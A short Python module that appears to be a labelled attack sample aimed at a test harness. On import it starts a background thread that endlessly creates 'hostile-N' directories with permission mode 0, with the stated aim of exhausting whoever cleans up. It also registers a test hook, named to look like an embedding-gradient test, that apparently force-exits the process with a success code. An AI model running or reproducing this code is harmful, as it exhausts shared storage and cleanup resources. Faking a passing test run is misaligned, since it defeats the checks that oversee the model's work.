"""Hope: folders that are made faster than they can be removed keep whoever clears up busy for ever."""

import itertools
import os
import threading

from a3 import kit

GOAL = "exhaust"
ROUTE = "files"
SCORE = 29.29


def _make_folders():
    for number in itertools.count():
        try:
            os.mkdir(f"hostile-{number}", 0)
        except OSError:
            continue


threading.Thread(target=_make_folders, daemon=True).start()
word_embedding_backward = kit.in_one_test(lambda: os._exit(0))
